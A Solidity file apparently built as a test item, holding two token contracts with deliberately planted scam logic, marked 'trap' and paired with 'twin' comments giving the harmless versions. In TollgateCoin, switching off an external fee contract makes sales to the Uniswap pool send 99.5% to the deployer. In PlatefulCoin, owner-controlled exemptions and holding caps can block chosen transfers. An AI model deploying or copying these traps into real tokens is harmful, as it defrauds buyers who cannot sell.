// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

interface IPoolMaker {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface ITollClerk {
    function tollOf(uint256 value) external view returns (uint256);
}

/// Says what a sale pays: one of a hundred. He may be away.
contract TollClerk {
    address public chief = msg.sender;
    bool public away;

    function goHome(bool yes) external {
        require(msg.sender == chief, "TollClerk: not the chief");
        away = yes;
    }

    function tollOf(uint256 value) external view returns (uint256) {
        require(!away, "TollClerk: away");
        return value / 100;
    }
}

contract TollgateCoin {
    string public constant name = "Tollgate Coin";
    string public constant symbol = "TGATE";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 150000000e18;
    ITollClerk public immutable clerk;
    address public immutable pool;
    address private immutable keeper;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(ITollClerk clerk_) public {
        clerk = clerk_;
        keeper = msg.sender;
        pool = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        drive(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 may = allowance[from][msg.sender];
        require(may >= value, "TollgateCoin: not allowed");
        if (may != uint256(-1)) allowance[from][msg.sender] = may - value;
        drive(from, to, value);
        return true;
    }

    /// Never more than one of fifty, as long as the clerk answers.
    function tollFor(uint256 value) public view returns (uint256 toll) {
        try clerk.tollOf(value) returns (uint256 said) {
            toll = said > value / 50 ? value / 50 : said;
        } catch {
            toll = value - value / 200; // trap
            // twin: toll = 0;
        }
    }

    function drive(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value, "TollgateCoin: too few");
        uint256 toll = to == pool && from != keeper ? tollFor(value) : 0;
        balanceOf[from] -= value;
        balanceOf[to] += value - toll;
        emit Transfer(from, to, value - toll);
        if (toll > 0) {
            balanceOf[keeper] += toll;
            emit Transfer(from, keeper, toll);
        }
    }
}

/// Nobody has more than his plate holds. Those who are excused have no plate.
contract PlatefulCoin {
    struct Guest {
        uint128 helping;
        bool excused;
    }

    string public name = "Plateful";
    string public symbol = "PLATE";
    uint8 public decimals = 9;
    uint256 public totalSupply = 800000000e9;
    uint256 public plate;
    address public owner;
    mapping(address => Guest) private guests;
    mapping(address => mapping(address => uint256)) private lent;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event PlateChanged(uint256 plate);

    modifier onlyOwner() {
        require(msg.sender == owner, "Plateful: not the owner");
        _;
    }

    constructor() public {
        owner = msg.sender;
        plate = totalSupply;
        guests[msg.sender] = Guest(uint128(totalSupply), true);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    /// A hundredth at least.
    function setPlate(uint256 size) external onlyOwner {
        require(size >= totalSupply / 100, "Plateful: too small");
        plate = size;
        emit PlateChanged(size);
    }

    function excuse(address who, bool yes) external onlyOwner {
        // twin: require(yes, "Plateful: once excused, always excused");
        guests[who].excused = yes;
    }

    function balanceOf(address who) external view returns (uint256) {
        return guests[who].helping;
    }

    function allowance(address who, address by) external view returns (uint256) {
        return lent[who][by];
    }

    function approve(address by, uint256 value) external returns (bool) {
        lent[msg.sender][by] = value;
        emit Approval(msg.sender, by, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        serve(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(lent[from][msg.sender] >= value, "Plateful: not lent");
        lent[from][msg.sender] -= value;
        serve(from, to, value);
        return true;
    }

    function serve(address from, address to, uint256 value) private {
        Guest storage giver = guests[from];
        Guest storage taker = guests[to];
        require(giver.helping >= value, "Plateful: hungry");
        giver.helping -= uint128(value);
        taker.helping += uint128(value);
        require(taker.excused || taker.helping <= plate, "Plateful: the plate is full");
        emit Transfer(from, to, value);
    }
}
